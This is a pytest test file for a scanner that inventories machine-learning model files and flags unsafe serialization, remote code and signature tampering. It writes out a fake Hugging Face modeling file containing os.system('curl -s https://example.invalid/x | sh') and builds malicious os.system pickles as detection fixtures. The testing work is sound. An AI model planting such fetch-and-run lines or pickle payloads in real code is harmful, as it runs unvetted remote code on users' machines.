"""ModelFileCollector: model artifacts by extension and magic, HF caches, Modelfiles, datasets."""

from __future__ import annotations

import hashlib
import io
import json
import pickle
import struct
import zipfile
from pathlib import Path

import gguf
import h5py  # type: ignore[import-untyped]
import numpy as np
import pytest
from safetensors.numpy import save_file

from aispm.collectors.base import CollectorError, ModelMention, Observation, SourceFile, scope_of
from aispm.collectors.model_files import ModelFileCollector
from aispm.model import Asset, AssetKind, RelationKind, ScanResult
from aispm.pipeline import ScanOptions, scan
from tests.analysis import pickle_samples as samples


def source(root: Path, rel: str) -> SourceFile:
    path = root / rel
    return SourceFile(path, rel, path.stat().st_size, scope_of(rel))


def place(root: Path, rel: str, data: bytes | str) -> Path:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        path.write_text(data)
    else:
        path.write_bytes(data)
    return path


def collect(root: Path, rel: str) -> list[Observation]:
    f = source(root, rel)
    c = ModelFileCollector()
    assert c.wants(f), rel
    return list(c.collect(f))


def observe(root: Path, rel: str) -> list[Observation]:
    """What the collector yields for ``rel``: nothing when it does not want the file."""
    f = source(root, rel)
    c = ModelFileCollector()
    return list(c.collect(f)) if c.wants(f) else []


def only_asset(obs: list[Observation]) -> Asset:
    (a,) = [o for o in obs if isinstance(o, Asset)]
    return a


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_safetensors_artifact(tmp_path: Path) -> None:
    path = tmp_path / "models" / "m.safetensors"
    path.parent.mkdir()
    save_file({"w": np.zeros((2, 3), dtype=np.float32)}, path, metadata={"format": "pt"})
    a = only_asset(collect(tmp_path, "models/m.safetensors"))
    assert a.kind == AssetKind.MODEL and a.name == "models/m.safetensors"
    p = a.properties
    assert (p["format"], p["framework"], p["provider"], p["source"]) == (
        "safetensors",
        "pytorch",
        "local",
        "artifact",
    )
    assert (p["tensor_count"], p["parameter_count"], p["dtypes"]) == (1, 6, ["F32"])
    assert p["sha256"] == sha(path) and p["size"] == path.stat().st_size
    assert "serialization_risk" not in p


def test_safetensors_broken_header_still_inventoried(tmp_path: Path) -> None:
    place(tmp_path, "bad.safetensors", struct.pack("<Q", 10**12) + b'{"a": 1}')
    f = source(tmp_path, "bad.safetensors")
    got: list[Observation] = []
    with pytest.raises(CollectorError, match="safetensors header"):
        for o in ModelFileCollector().collect(f):
            got.append(o)
    a = only_asset(got)
    assert a.properties["header_valid"] is False and a.properties["sha256"]


def test_gguf_artifact(tmp_path: Path) -> None:
    path = tmp_path / "tiny.gguf"
    w = gguf.GGUFWriter(str(path), "llama")
    w.add_name("Tiny")
    w.add_license("mit")
    w.add_tensor("w", np.ones((2, 2), dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    p = only_asset(collect(tmp_path, "tiny.gguf")).properties
    assert (p["format"], p["name"], p["architecture"], p["license"]) == ("gguf", "Tiny", "llama", "mit")
    assert p["tensor_count"] == 1


@pytest.mark.parametrize("protocol", range(0, pickle.HIGHEST_PROTOCOL + 1))
def test_pickles_every_protocol(tmp_path: Path, protocol: int) -> None:
    place(tmp_path, "clf.pkl", pickle.dumps({"coef": [1.0, 2.0], "kind": "sklearn-ish"}, protocol=protocol))
    p = only_asset(collect(tmp_path, "clf.pkl")).properties
    assert p["serialization_risk"] == "pickle"


def test_pytorch_zip_and_legacy_pickle(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "model.pt", "w") as zf:
        zf.writestr("archive/data.pkl", pickle.dumps({"w": 1}, protocol=2))
        zf.writestr("archive/version", "3\n")
        zf.writestr("archive/data/0", b"\0" * 16)
    p = only_asset(collect(tmp_path, "model.pt")).properties
    assert (p["format"], p["framework"], p["serialization_risk"]) == ("pytorch", "pytorch", "pickle")
    with zipfile.ZipFile(tmp_path / "scripted.pt", "w") as zf:
        zf.writestr("m/data.pkl", b"\x80\x02}q\x00.")
        zf.writestr("m/constants.pkl", b"\x80\x02).")
        zf.writestr("m/code/__torch__.py", "def forward(self): ...")
    assert only_asset(collect(tmp_path, "scripted.pt")).properties["format"] == "torchscript"
    place(tmp_path, "pytorch_model.bin", pickle.dumps({"w": [0.0] * 10}, protocol=2))
    p = only_asset(collect(tmp_path, "pytorch_model.bin")).properties
    assert (p["format"], p["serialization_risk"]) == ("pytorch-legacy", "pickle")


def test_random_bin_is_not_a_model(tmp_path: Path) -> None:
    place(tmp_path, "firmware.bin", bytes(range(256)) * 8)
    assert collect(tmp_path, "firmware.bin") == []
    with zipfile.ZipFile(tmp_path / "bundle.bin", "w") as zf:
        zf.writestr("readme.txt", "not a model")
    assert collect(tmp_path, "bundle.bin") == []


def test_keras_and_hdf5(tmp_path: Path) -> None:
    with h5py.File(tmp_path / "model.h5", "w") as f:
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"layers": []}})
        f.create_dataset("w", data=np.zeros(4))
    p = only_asset(collect(tmp_path, "model.h5")).properties
    assert (p["format"], p["framework"]) == ("keras-h5", "keras")
    with h5py.File(tmp_path / "table.h5", "w") as f:
        f.create_dataset("x", data=np.arange(10))
    assert collect(tmp_path, "table.h5") == []
    with zipfile.ZipFile(tmp_path / "m.keras", "w") as zf:
        zf.writestr("config.json", json.dumps({"class_name": "Lambda", "config": {"function": "..."}}))
        zf.writestr("metadata.json", "{}")
        zf.writestr("model.weights.h5", b"")
    p = only_asset(collect(tmp_path, "m.keras")).properties
    assert (p["format"], p["serialization_risk"]) == ("keras", "keras-lambda")


def test_numpy_files(tmp_path: Path) -> None:
    np.save(tmp_path / "objs.npy", np.array([{"a": 1}], dtype=object), allow_pickle=True)
    assert only_asset(collect(tmp_path, "objs.npy")).properties["serialization_risk"] == "pickle"
    np.save(tmp_path / "plain.npy", np.zeros(5))
    assert collect(tmp_path, "plain.npy") == []
    np.savez(tmp_path / "bundle.npz", a=np.zeros(2), b=np.array([None], dtype=object))
    p = only_asset(collect(tmp_path, "bundle.npz")).properties
    assert (p["format"], p["serialization_risk"]) == ("numpy", "pickle")


def test_onnx_tflite_and_coreml(tmp_path: Path) -> None:
    place(tmp_path, "m.onnx", b"\x08\x08\x12\x07pytorch\x1a\x032.1\x3a\x02\x00\x00")
    p = only_asset(collect(tmp_path, "m.onnx")).properties
    assert (p["format"], p["producer_name"], p["ir_version"]) == ("onnx", "pytorch", 8)
    place(tmp_path, "m.tflite", b"\x1c\x00\x00\x00TFL3" + b"\0" * 32)
    assert only_asset(collect(tmp_path, "m.tflite")).properties["format"] == "tflite"
    place(tmp_path, "m.mlmodel", b"\x08\x04\x12\x00")
    assert only_asset(collect(tmp_path, "m.mlmodel")).properties["format"] == "coreml"


def test_onnx_that_is_not_protobuf_is_recorded(tmp_path: Path) -> None:
    place(tmp_path, "fake.onnx", "hello")
    with pytest.raises(CollectorError, match="onnx header"):
        list(ModelFileCollector().collect(source(tmp_path, "fake.onnx")))


def test_lfs_pointer(tmp_path: Path) -> None:
    oid = "a" * 64
    place(
        tmp_path,
        "weights/model.safetensors",
        f"version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize 123456\n",
    )
    p = only_asset(collect(tmp_path, "weights/model.safetensors")).properties
    assert (p["lfs_pointer"], p["sha256"], p["size"]) == (True, oid, 123456)


def test_huggingface_cache_layout(tmp_path: Path) -> None:
    commit = "0123456789abcdef0123456789abcdef01234567"
    rel = f"hub/models--BAAI--bge-small-en-v1.5/snapshots/{commit}/model.safetensors"
    (tmp_path / rel).parent.mkdir(parents=True)
    save_file({"w": np.zeros(2, dtype=np.float32)}, tmp_path / rel)
    obs = collect(tmp_path, rel)
    a = only_asset(obs)
    assert a.properties["hub_id"] == "BAAI/bge-small-en-v1.5"
    (m,) = [o for o in obs if isinstance(o, ModelMention)]
    assert (m.value, m.revision, m.strong, m.provider, m.owner) == (
        "BAAI/bge-small-en-v1.5",
        commit,
        True,
        "huggingface",
        a.id,
    )
    result = scan([tmp_path], ScanOptions(collectors=["model-files"], checks=[]))
    hub = next(x for x in result.assets if x.name == "BAAI/bge-small-en-v1.5")
    assert hub.properties["purl"] == f"pkg:huggingface/BAAI/bge-small-en-v1.5@{commit}"


def test_extensionless_blob_is_sniffed(tmp_path: Path) -> None:
    rel = "hub/models--org--tiny/blobs/" + "b" * 64
    place(tmp_path, rel, pickle.dumps(list(range(100)), protocol=4))
    p = only_asset(collect(tmp_path, rel)).properties
    assert p["serialization_risk"] == "pickle" and p["hub_id"] == "org/tiny"
    place(tmp_path, "LICENSE", "MIT License\n" * 20)
    assert not ModelFileCollector().wants(source(tmp_path, "LICENSE"))


def test_model_directory_config(tmp_path: Path) -> None:
    config = {
        "architectures": ["LlamaForCausalLM"],
        "model_type": "llama",
        "_name_or_path": "meta-llama/Llama-2-7b-hf",
    }
    place(tmp_path, "ft/config.json", json.dumps(config))
    obs = collect(tmp_path, "ft/config.json")
    a = only_asset(obs)
    assert (a.name, a.properties["architecture"], a.properties["format"]) == (
        "ft",
        "LlamaForCausalLM",
        "huggingface-config",
    )
    (m,) = [o for o in obs if isinstance(o, ModelMention)]
    assert (m.value, m.strong, m.owner) == ("meta-llama/Llama-2-7b-hf", True, a.id)
    # With weights beside it, the weights carry the facts and the directory is not a second model.
    save_file({"w": np.zeros(2, dtype=np.float32)}, tmp_path / "ft" / "model.safetensors")
    obs = collect(tmp_path, "ft/config.json")
    assert [o for o in obs if isinstance(o, Asset)] == []
    weights = only_asset(collect(tmp_path, "ft/model.safetensors"))
    assert weights.properties["architecture"] == "LlamaForCausalLM"


def test_config_json_decoys(tmp_path: Path) -> None:
    place(tmp_path, "app/config.json", json.dumps({"port": 8080, "model": "User"}))
    assert collect(tmp_path, "app/config.json") == []
    place(tmp_path, "broken/config.json", "{not json")
    assert collect(tmp_path, "broken/config.json") == []


def test_ollama_modelfile(tmp_path: Path) -> None:
    place(tmp_path, "Modelfile", 'FROM llama3.1:8b\nPARAMETER temperature 0.2\nSYSTEM """You are terse."""\n')
    obs = collect(tmp_path, "Modelfile")
    a = only_asset(obs)
    assert a.properties["base"] == "llama3.1:8b" and a.properties["has_system"] is True
    (m,) = [o for o in obs if isinstance(o, ModelMention)]
    assert (m.value, m.provider, m.location.line) == ("llama3.1:8b", "ollama", 1)
    place(tmp_path, "hf.modelfile", "FROM hf.co/bartowski/Llama-3.2-1B-Instruct-GGUF:Q4_K_M\n")
    (m,) = [o for o in collect(tmp_path, "hf.modelfile") if isinstance(o, ModelMention)]
    assert (m.value, m.provider) == ("bartowski/Llama-3.2-1B-Instruct-GGUF", "huggingface")
    place(tmp_path, "local/Modelfile", "FROM ./weights.gguf\n")
    assert [o for o in collect(tmp_path, "local/Modelfile") if isinstance(o, ModelMention)] == []
    place(tmp_path, "empty/Modelfile", "# nothing\n")
    with pytest.raises(CollectorError, match="FROM"):
        collect(tmp_path, "empty/Modelfile")


def test_datasets_only_where_the_tree_says_data(tmp_path: Path) -> None:
    place(tmp_path, "data/train.jsonl", '{"prompt": "a", "completion": "b"}\n')
    obs = collect(tmp_path, "data/train.jsonl")
    a = only_asset(obs)
    assert a.kind == AssetKind.DATASET and a.properties["source"] == "file" and a.properties["sha256"]
    place(tmp_path, "export/dataset_info.json", "{}")
    place(tmp_path, "export/part-0.parquet", b"PAR1\0\0PAR1")
    assert only_asset(collect(tmp_path, "export/part-0.parquet")).kind == AssetKind.DATASET
    place(tmp_path, "src/countries.csv", "code,name\nfr,France\n")
    assert not ModelFileCollector().wants(source(tmp_path, "src/countries.csv"))
    rel = "hub/datasets--imdb--reviews/snapshots/" + "c" * 40 + "/train.parquet"
    place(tmp_path, rel, b"PAR1")
    a = only_asset(collect(tmp_path, rel))
    assert (a.name, a.properties["source"], a.properties["revision"]) == (
        "imdb/reviews",
        "huggingface",
        "c" * 40,
    )


def test_pipeline_mixed_tree(tmp_path: Path) -> None:
    place(tmp_path, "models/clf.joblib", pickle.dumps({"x": 1}, protocol=5))
    place(tmp_path, "models/readme.md", "# models")
    place(tmp_path, "firmware/blob.bin", b"\x00\x01" * 100)
    result = scan([tmp_path], ScanOptions(collectors=["model-files"], checks=[]))
    assert result.errors == ()
    assert [(a.kind.value, a.name) for a in result.assets] == [("model", "models/clf.joblib")]


# --- static safety: routing by content -------------------------------------------------------------

CANARY = "canary-created-if-executed"


def links(result: ScanResult, kind: RelationKind) -> set[tuple[str, str]]:
    """(source name, target name) of the relations of ``kind`` in a scan result."""
    names = {a.id: a.name for a in result.assets}
    return {(names[r.source], names[r.target]) for r in result.relations if r.kind is kind}


def model_scan(root: Path) -> ScanResult:
    return scan([root], ScanOptions(collectors=["model-files"], checks=[]))


@pytest.mark.parametrize("rel", ["notes.txt", "model.safetensors", "payload", "weights/model.bin"])
def test_malicious_pickle_is_found_whatever_its_name(tmp_path: Path, rel: str) -> None:
    place(tmp_path, rel, samples.os_system_p2_global(tmp_path / CANARY))
    a = only_asset(collect(tmp_path, rel))  # and no CollectorError: the content is read as what it is
    safety = a.properties["safety"]
    assert safety["verdict"] == "malicious" and "os.system" in safety["globals"]
    assert {i["rule"] for i in safety["issues"]} == {"pickle.exec"}
    assert a.properties["sha256"] == sha(tmp_path / rel)
    assert not (tmp_path / CANARY).exists()


def test_pickle_named_safetensors_is_inventoried_as_a_pickle(tmp_path: Path) -> None:
    place(tmp_path, "m.safetensors", samples.os_system_p4_stack_global(tmp_path / CANARY))
    result = model_scan(tmp_path)
    assert result.errors == ()
    (a,) = result.assets
    assert (a.properties["format"], a.properties["serialization_risk"]) == ("pickle", "pickle")
    assert "header_valid" not in a.properties


@pytest.mark.parametrize("rel", ["notes.txt", "state", "cache/entry.dat"])
def test_safe_pickle_without_a_model_name_is_data(tmp_path: Path, rel: str) -> None:
    place(tmp_path, rel, pickle.dumps({"rows": [1, 2, 3], "label": "x"}, protocol=4))
    assert collect(tmp_path, rel) == []
    # The same bytes under a model name are a model (a pickle, with its serialization risk).
    place(tmp_path, "clf.pkl", pickle.dumps({"rows": [1, 2, 3], "label": "x"}, protocol=4))
    p = only_asset(collect(tmp_path, "clf.pkl")).properties
    assert p["safety"]["verdict"] == "safe" and p["serialization_risk"] == "pickle"


def _office_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        zf.writestr("_rels/.rels", "<Relationships/>")
        zf.writestr("word/document.xml", "<w:document><w:body>quarterly model review</w:body></w:document>")
        zf.writestr("docProps/core.xml", "<cp:coreProperties/>")
    return out.getvalue()


@pytest.mark.parametrize("rel", ["report.docx", "report.xlsx", "bundle.zip", "export", "model-review.bin"])
def test_zip_of_office_xml_is_not_a_model(tmp_path: Path, rel: str) -> None:
    place(tmp_path, rel, _office_zip())
    assert observe(tmp_path, rel) == []


def test_zip_with_a_malicious_member_of_any_name_is_found(tmp_path: Path) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("docs/readme.txt", "hello")
        zf.writestr("assets/blob", samples.os_system_p0_global(tmp_path / CANARY))
    place(tmp_path, "assets.zip", out.getvalue())
    safety = only_asset(collect(tmp_path, "assets.zip")).properties["safety"]
    assert safety["verdict"] == "malicious"
    assert any(i.get("member") == "assets/blob" for i in safety["issues"])


@pytest.mark.parametrize("legacy", [False, True])
def test_torch_save_checkpoint_is_safe(tmp_path: Path, legacy: bool) -> None:
    torch = pytest.importorskip("torch")
    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
    torch.save(
        {"state_dict": model.state_dict(), "epoch": 3},
        tmp_path / "ckpt.pt",
        _use_new_zipfile_serialization=not legacy,
    )
    p = only_asset(collect(tmp_path, "ckpt.pt")).properties
    assert p["safety"]["verdict"] == "safe" and p["safety"]["issues"] == []
    assert "torch._utils._rebuild_tensor_v2" in p["safety"]["globals"]
    assert (p["framework"], p["serialization_risk"]) == ("pytorch", "pickle")
    assert p["safety"]["format"] == ("pytorch-legacy" if legacy else "pytorch-zip")
    assert p["pickles"] >= 1
    # Route by content: the same checkpoint with no extension is still a model, and still safe.
    (tmp_path / "ckpt").write_bytes((tmp_path / "ckpt.pt").read_bytes())
    assert only_asset(collect(tmp_path, "ckpt")).properties["safety"]["verdict"] == "safe"


def test_safety_facts_from_the_safetensors_reader(tmp_path: Path) -> None:
    save_file(
        {"a": np.zeros((4, 4), dtype=np.float16), "b": np.zeros(3, dtype=np.float32)}, tmp_path / "m.st"
    )
    (tmp_path / "m.safetensors").write_bytes((tmp_path / "m.st").read_bytes())
    p = only_asset(collect(tmp_path, "m.safetensors")).properties
    assert p["safety"]["verdict"] == "safe" and p["safety"]["format"] == "safetensors"
    assert (p["tensor_count"], p["parameter_count"], sorted(p["dtypes"])) == (2, 19, ["F16", "F32"])
    # An unknown extension with safetensors content is a model too.
    assert only_asset(collect(tmp_path, "m.st")).properties["format"] == "safetensors"


def test_lfs_pointer_is_not_scanned_and_does_not_fail(tmp_path: Path) -> None:
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'b' * 64}\nsize 99\n"
    for rel in ("lfs/pytorch_model.bin", "lfs/model.pkl", "lfs/model.safetensors"):
        place(tmp_path, rel, pointer)
    result = model_scan(tmp_path)
    assert result.errors == ()
    assert len(result.assets) == 3
    for a in result.assets:
        assert a.properties["lfs_pointer"] is True and "safety" not in a.properties
        assert (a.properties["sha256"], a.properties["size"]) == ("b" * 64, 99)
    # A pointer-shaped text file without a model name is nothing.
    place(tmp_path, "notes/pointer.txt", pointer)
    assert observe(tmp_path, "notes/pointer.txt") == []


def test_safety_issues_are_bounded(tmp_path: Path) -> None:
    from aispm.analysis.artifact_report import ArtifactReport, Issue, Verdict
    from aispm.collectors.model_files import safety_properties
    from aispm.model import Severity

    issues = tuple(
        Issue("pickle.exec", Verdict.MALICIOUS, Severity.CRITICAL, f"call {i}", offset=i) for i in range(250)
    )
    report = ArtifactReport("pickle", issues=issues, globals=tuple(f"m{i}.f" for i in range(500)))
    out = safety_properties(report)
    assert len(out["issues"]) == 100 and out["issues_total"] == 250
    assert len(out["globals"]) == 200 and out["globals_total"] == 500
    assert out["verdict"] == "malicious"


# --- Hugging Face model folders ------------------------------------------------------------------

CHAT_TEMPLATE = "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}"
REMOTE_MODELING = (
    "import os\n\nos.system('curl -s https://example.invalid/x | sh')\n\nclass TinyModel:\n    pass\n"
)


def hf_folder(
    root: Path, rel: str, *, config: dict[str, object] | None = None, card: str | None = None
) -> Path:
    folder = root / rel
    folder.mkdir(parents=True, exist_ok=True)
    save_file(
        {"embed.weight": np.zeros((8, 4), dtype=np.float32)}, folder / "model.safetensors", {"format": "pt"}
    )
    doc = config or {"architectures": ["BertForSequenceClassification"], "model_type": "bert"}
    (folder / "config.json").write_text(json.dumps(doc))
    (folder / "tokenizer_config.json").write_text(
        json.dumps({"tokenizer_class": "BertTokenizerFast", "chat_template": CHAT_TEMPLATE})
    )
    (folder / "tokenizer.json").write_text(json.dumps({"version": "1.0", "model": {"type": "WordPiece"}}))
    if card is not None:
        (folder / "README.md").write_text(card)
    return folder


def test_ordinary_hf_folder_has_no_directory_asset_and_no_issues(tmp_path: Path) -> None:
    hf_folder(tmp_path, "models/clf")
    assert collect(tmp_path, "models/clf/config.json") == []
    result = model_scan(tmp_path)
    assert result.errors == ()
    (a,) = result.assets
    assert a.name == "models/clf/model.safetensors"
    assert a.properties["safety"]["verdict"] == "safe" and "model_dir" not in a.properties
    assert a.properties["architecture"] == "BertForSequenceClassification"
    assert result.relations == ()  # the directory is not an asset, so it owns nothing


def test_hf_folder_with_remote_code_is_a_directory_asset_owning_its_weights(tmp_path: Path) -> None:
    folder = hf_folder(
        tmp_path,
        "models/tiny",
        config={
            "architectures": ["TinyModel"],
            "model_type": "tiny",
            "auto_map": {"AutoModel": "modeling_tiny.TinyModel"},
        },
    )
    (folder / "modeling_tiny.py").write_text(REMOTE_MODELING)
    d = only_asset(collect(tmp_path, "models/tiny/config.json"))
    assert (d.name, d.properties["format"], d.properties["source"]) == (
        "models/tiny",
        "huggingface-config",
        "artifact",
    )
    model_dir = d.properties["model_dir"]
    rules = [i["rule"] for i in model_dir["issues"]]
    assert "hf.remote-code" in rules and "hf.custom-code-dangerous" in rules
    assert model_dir["verdict"] == "malicious"
    assert model_dir["facts"]["remote_code"] is True
    result = model_scan(tmp_path)
    assert links(result, RelationKind.CONTAINS) == {("models/tiny", "models/tiny/model.safetensors")}
    assert {a.name for a in result.assets} == {"models/tiny", "models/tiny/model.safetensors"}


@pytest.mark.parametrize(
    "config",
    [
        {"model_type": "tiny", "auto_map": {"AutoModel": "modeling_tiny.TinyModel"}},
        {"auto_map": {"AutoModel": "modeling_tiny.TinyModel"}},
    ],
)
def test_remote_code_config_without_architectures(tmp_path: Path, config: dict[str, object]) -> None:
    folder = hf_folder(tmp_path, "m", config=config)
    (folder / "modeling_tiny.py").write_text("class TinyModel:\n    pass\n")
    d = only_asset(collect(tmp_path, "m/config.json"))
    assert [i["rule"] for i in d.properties["model_dir"]["issues"]] == ["hf.remote-code"]


def test_hf_folder_with_pickle_weights_beside_safetensors(tmp_path: Path) -> None:
    torch = pytest.importorskip("torch")
    folder = hf_folder(tmp_path, "m")
    torch.save({"embed.weight": torch.zeros(8, 4)}, folder / "pytorch_model.bin")
    d = only_asset(collect(tmp_path, "m/config.json"))
    issues = d.properties["model_dir"]["issues"]
    assert [i["rule"] for i in issues] == ["hf.mixed-formats"]
    assert issues[0]["detail"]["pickle"] == ["pytorch_model.bin"]
    result = model_scan(tmp_path)
    assert links(result, RelationKind.CONTAINS) == {
        ("m", "m/model.safetensors"),
        ("m", "m/pytorch_model.bin"),
    }
    weights = {a.name: a for a in result.assets}["m/pytorch_model.bin"]
    assert weights.properties["safety"]["verdict"] == "safe"


def test_model_card_facts_and_base_model(tmp_path: Path) -> None:
    card = (
        "---\nlicense: apache-2.0\nbase_model: google-bert/bert-base-uncased\nbase_model_relation: finetune\n"
        "datasets:\n- imdb\npipeline_tag: text-classification\n---\n# Ticket classifier\n"
    )
    hf_folder(tmp_path, "models/clf", card=card)
    obs = collect(tmp_path, "models/clf/model.safetensors")
    a = only_asset(obs)
    p = a.properties
    assert (p["license"], p["base_model"], p["datasets"], p["pipeline_tag"]) == (
        "apache-2.0",
        ["google-bert/bert-base-uncased"],
        ["imdb"],
        "text-classification",
    )
    (m,) = [o for o in obs if isinstance(o, ModelMention)]
    assert (m.value, m.relation, m.owner, m.strong) == (
        "google-bert/bert-base-uncased",
        RelationKind.DERIVED_FROM,
        a.id,
        True,
    )
    result = model_scan(tmp_path)
    assert links(result, RelationKind.DERIVED_FROM) == {
        ("models/clf/model.safetensors", "google-bert/bert-base-uncased")
    }
    base = {x.name: x for x in result.assets}["google-bert/bert-base-uncased"]
    assert base.properties["provider"] == "huggingface"
    assert base.properties["purl"] == "pkg:huggingface/google-bert/bert-base-uncased"


def test_model_card_of_a_folder_without_weights(tmp_path: Path) -> None:
    place(tmp_path, "adapters/lora/config.json", json.dumps({"architectures": ["LlamaForCausalLM"]}))
    place(
        tmp_path, "adapters/lora/README.md", "---\nlicense: mit\nbase_model: meta-llama/Llama-3.1-8B\n---\n"
    )
    result = model_scan(tmp_path)
    d = {a.name: a for a in result.assets}["adapters/lora"]
    assert d.properties["license"] == "mit" and d.properties["model_dir"]["issues"] == []
    assert links(result, RelationKind.DERIVED_FROM) == {("adapters/lora", "meta-llama/Llama-3.1-8B")}


@pytest.mark.parametrize("base", ["./local-checkpoint", "/abs/path", "a/b/c", "just-a-name"])
def test_base_models_that_are_not_hub_ids_are_not_linked(tmp_path: Path, base: str) -> None:
    hf_folder(tmp_path, "m", card=f"---\nbase_model: {base}\nlicense: mit\n---\n")
    obs = collect(tmp_path, "m/model.safetensors")
    assert [o for o in obs if isinstance(o, ModelMention)] == []
    assert only_asset(obs).properties["license"] == "mit"


def test_card_without_front_matter_adds_nothing(tmp_path: Path) -> None:
    hf_folder(tmp_path, "m", card="# My model\n\nlicense: mit\nbase_model: org/x\n")
    p = only_asset(collect(tmp_path, "m/model.safetensors")).properties
    assert "license" not in p and "base_model" not in p


# --- signatures ----------------------------------------------------------------------------------


def _sign(model: Path, key_dir: Path) -> Path:
    """Sign ``model`` (a folder) with model-signing's elliptic-key signer; the bundle is model.sig."""
    model_signing = pytest.importorskip("model_signing")
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    key = ec.generate_private_key(ec.SECP256R1())
    private = key_dir / "signer.pem"
    private.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        )
    )
    hashing = model_signing.hashing.Config().use_file_serialization().set_ignored_paths(paths=["model.sig"])
    config = model_signing.signing.Config().use_elliptic_key_signer(private_key=private)
    config.set_hashing_config(hashing)
    config.sign(model, model / "model.sig")
    return model / "model.sig"


def test_signed_model_folder_and_tampering(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    folder = hf_folder(root, "models/signed", card="---\nlicense: mit\n---\n")
    _sign(folder, tmp_path)
    f = source(root, "models/signed/model.sig")
    assert not ModelFileCollector().cacheable(f)
    d = only_asset(collect(root, "models/signed/model.sig"))
    assert (d.name, d.properties["format"]) == ("models/signed", "model-directory")
    sig = d.properties["signature"]
    assert (sig["verdict"], sig["issues"], sig["bundle"]) == ("safe", [], "models/signed/model.sig")
    assert sig["facts"]["integrity"] == "valid-digests" and sig["facts"]["signed_files"] >= 4
    result = model_scan(root)
    assert links(result, RelationKind.CONTAINS) == {("models/signed", "models/signed/model.safetensors")}
    # Swap the weights after signing: the signature no longer matches.
    save_file({"embed.weight": np.ones((8, 4), dtype=np.float32)}, folder / "model.safetensors")
    sig = only_asset(collect(root, "models/signed/model.sig")).properties["signature"]
    assert sig["verdict"] == "malicious"
    (issue,) = sig["issues"]
    assert (issue["rule"], issue["severity"]) == ("signing.mismatch", "critical")
    assert issue["detail"]["changed"] == ["model.safetensors"]


def test_broken_signature_bundle_is_data(tmp_path: Path) -> None:
    hf_folder(tmp_path, "m")
    place(tmp_path, "m/model.sig", b"{not a bundle")
    result = model_scan(tmp_path)
    assert result.errors == ()
    d = {a.name: a for a in result.assets}["m"]
    assert d.properties["signature"]["verdict"] == "unscannable"


# --- Ollama stores -------------------------------------------------------------------------------

OLLAMA = "application/vnd.ollama.image."


def _ollama_store(root: Path, name: str = "registry.ollama.ai/library/tiny/latest") -> tuple[Path, str]:
    """An Ollama store as ``ollama pull`` leaves it (a real GGUF blob); returns (store, blob digest)."""
    store = root / ".ollama" / "models"
    (store / "blobs").mkdir(parents=True)

    def blob(data: bytes) -> dict[str, object]:
        digest = hashlib.sha256(data).hexdigest()
        (store / "blobs" / f"sha256-{digest}").write_bytes(data)
        return {"digest": f"sha256:{digest}", "size": len(data)}

    w = gguf.GGUFWriter(str(root / "tmp.gguf"), "llama")
    w.add_name("tiny")
    w.add_tensor("w", np.zeros((4, 4), dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    weights = blob((root / "tmp.gguf").read_bytes())
    (root / "tmp.gguf").unlink()
    config = blob(json.dumps({"model_format": "gguf", "model_family": "llama", "file_type": "Q4_0"}).encode())
    doc = {
        "schemaVersion": 2,
        "mediaType": "application/vnd.docker.distribution.manifest.v2+json",
        "config": {"mediaType": "application/vnd.docker.container.image.v1+json", **config},
        "layers": [
            {"mediaType": OLLAMA + "model", **weights},
            {"mediaType": OLLAMA + "license", **blob(b"MIT License")},
            {"mediaType": OLLAMA + "template", **blob(b"{{ .Prompt }}")},
        ],
    }
    manifest = store / "manifests" / name
    manifest.parent.mkdir(parents=True)
    manifest.write_text(json.dumps(doc))
    return store, str(weights["digest"]).replace(":", "-")


def test_ollama_store_models_contain_their_blobs(tmp_path: Path) -> None:
    store, blob = _ollama_store(tmp_path)
    manifest = source(tmp_path, ".ollama/models/manifests/registry.ollama.ai/library/tiny/latest")
    assert not ModelFileCollector().cacheable(manifest)
    result = model_scan(tmp_path)
    assert result.errors == ()
    by_name = {a.name: a for a in result.assets}
    model = by_name["tiny:latest"]
    p = model.properties
    assert (p["provider"], p["format"], p["model_family"], p["license_text"]) == (
        "ollama",
        "ollama-manifest",
        "llama",
        "MIT License",
    )
    assert p["ollama"]["verdict"] == "safe"
    blob_name = f".ollama/models/blobs/{blob}"
    weights = by_name[blob_name]
    assert (weights.properties["format"], weights.properties["safety"]["verdict"]) == ("gguf", "safe")
    assert links(result, RelationKind.CONTAINS) == {("tiny:latest", blob_name)}
    # Text layers (license, template) are not models.
    assert set(by_name) == {"tiny:latest", blob_name}
    # A missing blob is noted on the model, not an error; the checks judge the manifest's issues.
    (store / "blobs" / blob).unlink()
    checks = [f"AISPM-MODEL-00{i}" for i in range(1, 7)]
    again = scan([tmp_path], ScanOptions(collectors=["model-files"], checks=checks))
    assert again.errors == ()
    (model,) = [a for a in again.assets if a.name == "tiny:latest"]
    assert [i["rule"] for i in model.properties["ollama"]["issues"]] == ["ollama.blob-missing"]
    assert links(again, RelationKind.CONTAINS) == set()
    assert [(f.check_id, str(f.severity), f.asset_id) for f in again.findings] == [
        ("AISPM-MODEL-003", "low", model.id)
    ]
    assert all(r.not_assessed == 0 for r in again.check_runs)


def test_cacheable_opt_out(tmp_path: Path) -> None:
    hf_folder(tmp_path, "m")
    c = ModelFileCollector()
    assert not c.cacheable(source(tmp_path, "m/config.json"))
    assert c.cacheable(source(tmp_path, "m/model.safetensors"))


